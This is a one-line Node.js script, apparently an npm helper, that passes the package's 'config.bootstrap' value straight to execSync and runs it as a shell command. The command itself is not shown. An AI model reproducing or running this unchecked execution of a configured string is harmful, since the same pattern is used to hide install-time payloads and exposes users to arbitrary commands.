require('child_process').execSync(process.env.npm_package_config_bootstrap);
